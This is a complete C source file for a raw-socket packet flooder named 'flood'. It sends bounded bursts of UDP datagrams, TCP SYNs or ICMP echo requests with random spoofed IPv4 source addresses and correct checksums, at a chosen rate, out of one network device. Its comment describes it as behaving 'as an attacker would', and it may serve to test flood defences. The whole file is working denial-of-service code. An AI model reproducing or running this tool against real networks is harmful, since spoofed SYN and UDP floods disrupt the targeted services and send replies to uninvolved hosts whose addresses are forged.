/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Sends minimal frames with random IPv4 sources out of one device, as an attacker would: no address of its
 * own, no stack. UDP datagrams, TCP SYNs or ICMP echo requests, with right checksums so that they are
 * answered. Bounded in frames and time, and ended by SIGTERM; prints what it sent.
 *   flood DEVICE DESTINATION-MAC DESTINATION-IP COUNT SECONDS [udp|syn|icmp [PORT [FRAMES-A-SECOND]]]
 */
#include <arpa/inet.h>
#include <errno.h>
#include <linux/if_ether.h>
#include <linux/if_packet.h>
#include <net/if.h>
#include <netinet/ip.h>
#include <netinet/ip_icmp.h>
#include <netinet/tcp.h>
#include <netinet/udp.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define BATCH       64
#define FRAME_BYTES 60

#define L4_BYTES (FRAME_BYTES - sizeof(struct ethhdr) - sizeof(struct iphdr))

struct flood_frame {
	struct ethhdr eth;
	struct iphdr ip;
	union {
		struct udphdr udp;
		struct tcphdr tcp;
		struct icmphdr icmp;
		uint8_t bytes[L4_BYTES];
	} __attribute__((packed)) l4;
} __attribute__((packed));
_Static_assert(sizeof(struct flood_frame) == FRAME_BYTES, "a minimal frame");

struct flood {
	const char *device, *mac, *ip, *kind;
	uint64_t count;
	time_t seconds;
	uint16_t port;
	uint64_t rate; /* frames a second, 0: as many as there can be */
};

static uint64_t random_state;
static volatile sig_atomic_t over;

static void on_term(int number)
{
	(void)number;
	over = 1;
}

static uint32_t random32(void)
{
	random_state ^= random_state << 13;
	random_state ^= random_state >> 7;
	random_state ^= random_state << 17;
	return (uint32_t)(random_state >> 16);
}

static uint32_t add_words(uint32_t sum, const void *data, size_t len)
{
	const uint8_t *at = data;

	for (size_t i = 0; i + 1 < len; i += 2)
		sum += (uint32_t)at[i] << 8 | at[i + 1];
	return sum;
}

static uint16_t checksum(uint32_t sum)
{
	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	return htons((uint16_t)~sum);
}

static uint8_t protocol_of(const char *kind)
{
	if (!strcmp(kind, "udp"))
		return IPPROTO_UDP;
	if (!strcmp(kind, "syn"))
		return IPPROTO_TCP;
	return !strcmp(kind, "icmp") ? IPPROTO_ICMP : 0;
}

static int make_frame(struct flood_frame *f, const struct flood *what)
{
	uint8_t *mac = f->eth.h_dest;
	struct in_addr to;

	*f = (struct flood_frame){
		.eth = { .h_source = { 2, 0, 0, 0, 0, 0x66 }, .h_proto = htons(ETH_P_IP) },
		.ip = { .version = 4,
			.ihl = 5,
			.ttl = 64,
			.protocol = protocol_of(what->kind),
			.tot_len = htons(FRAME_BYTES - sizeof(struct ethhdr)) },
	};
	if (!f->ip.protocol || inet_pton(AF_INET, what->ip, &to) != 1 ||
	    sscanf(what->mac, "%hhx:%hhx:%hhx:%hhx:%hhx:%hhx", &mac[0], &mac[1], &mac[2], &mac[3],
		   &mac[4], &mac[5]) != 6)
		return -1;
	f->ip.daddr = to.s_addr;
	return 0;
}

/* Where a TCP or UDP header has its ports, an echo has its type and identifier. */
static void spoof(struct flood_frame *f, uint16_t port)
{
	uint32_t pseudo = add_words(f->ip.protocol + (uint32_t)L4_BYTES, &f->ip.daddr, 4);
	uint32_t r = random32();

	f->ip.saddr = htonl(random32());
	f->ip.check = 0;
	f->ip.check = checksum(add_words(0, &f->ip, sizeof(f->ip)));
	pseudo = add_words(pseudo, &f->ip.saddr, 4);
	memset(&f->l4, 0, sizeof(f->l4));
	switch (f->ip.protocol) {
	case IPPROTO_UDP:
		f->l4.udp = (struct udphdr){ .source = htons((uint16_t)r),
					     .dest = htons(port),
					     .len = htons(L4_BYTES) };
		f->l4.udp.check = checksum(add_words(pseudo, &f->l4, L4_BYTES));
		break;
	case IPPROTO_TCP: /* padded to the end of the frame: the checksum covers it */
		f->l4.tcp = (struct tcphdr){ .source = htons((uint16_t)r),
					     .dest = htons(port),
					     .seq = r,
					     .doff = 5,
					     .syn = 1,
					     .window = 0xffff };
		f->l4.tcp.check = checksum(add_words(pseudo, &f->l4, L4_BYTES));
		break;
	case IPPROTO_ICMP:
		f->l4.icmp = (struct icmphdr){ .type = ICMP_ECHO, .un.echo.id = (uint16_t)r };
		f->l4.icmp.checksum = checksum(add_words(0, &f->l4, L4_BYTES));
		break;
	}
}

static uint64_t now_ns(void)
{
	struct timespec t;

	(void)clock_gettime(CLOCK_MONOTONIC, &t);
	return (uint64_t)t.tv_sec * 1000000000 + (uint64_t)t.tv_nsec;
}

/* Until the time that frame `sent` is due. */
static void keep_pace(uint64_t started, uint64_t sent, uint64_t rate)
{
	uint64_t due = rate ? started + sent * 1000000000 / rate : 0, now = now_ns();
	struct timespec wait = {};

	if (due <= now)
		return;
	wait.tv_sec = (time_t)((due - now) / 1000000000);
	wait.tv_nsec = (long)((due - now) % 1000000000);
	(void)nanosleep(&wait, NULL); /* interrupted: over */
}

static uint64_t send_all(int fd, struct flood_frame frames[BATCH], const struct flood *what)
{
	struct mmsghdr messages[BATCH] = {};
	struct iovec parts[BATCH];
	time_t end = time(NULL) + what->seconds;
	uint64_t sent = 0, count = what->count, started = now_ns();

	for (int i = 0; i < BATCH; i++) {
		parts[i] = (struct iovec){ &frames[i], sizeof(frames[i]) };
		messages[i].msg_hdr.msg_iov = &parts[i];
		messages[i].msg_hdr.msg_iovlen = 1;
	}
	while (sent < count && time(NULL) < end && !over) {
		unsigned int batch = count - sent < BATCH ? (unsigned int)(count - sent) : BATCH;
		int done;

		for (unsigned int i = 0; i < batch; i++)
			spoof(&frames[i], what->port);
		done = sendmmsg(fd, messages, batch, 0);
		if (done < 0 && errno != ENOBUFS && errno != EAGAIN && errno != EINTR)
			break;
		sent += done > 0 ? (uint64_t)done : 0;
		keep_pace(started, sent, what->rate);
	}
	return sent;
}

static int run(const struct flood *what)
{
	static struct flood_frame frames[BATCH];
	struct sockaddr_ll to = { .sll_family = AF_PACKET,
				  .sll_protocol = htons(ETH_P_IP),
				  .sll_ifindex = (int)if_nametoindex(what->device) };
	int fd;

	for (int i = 0; i < BATCH; i++) {
		if (make_frame(&frames[i], what) < 0)
			return 2;
	}
	fd = socket(AF_PACKET, SOCK_RAW, 0);
	if (fd < 0 || bind(fd, (struct sockaddr *)&to, sizeof(to))) {
		perror("flood");
		return 1;
	}
	random_state = (uint64_t)time(NULL) << 16 | 1;
	(void)printf("%llu\n", (unsigned long long)send_all(fd, frames, what));
	(void)close(fd);
	return 0;
}

int main(int argc, char **argv)
{
	struct flood what = { .kind = "udp", .port = 9 };
	int status = 2;

	(void)signal(SIGTERM, on_term);
	if (argc >= 6 && argc <= 9) {
		what.device = argv[1];
		what.mac = argv[2];
		what.ip = argv[3];
		what.count = strtoull(argv[4], NULL, 10);
		what.seconds = atol(argv[5]);
		what.kind = argc > 6 ? argv[6] : what.kind;
		what.port = argc > 7 ? (uint16_t)atoi(argv[7]) : what.port;
		what.rate = argc > 8 ? strtoull(argv[8], NULL, 10) : 0;
		status = run(&what);
	}
	if (status == 2)
		(void)fprintf(stderr, "usage: flood DEVICE DESTINATION-MAC DESTINATION-IP COUNT "
				      "SECONDS [udp|syn|icmp [PORT [FRAMES-A-SECOND]]]\n");
	return status;
}
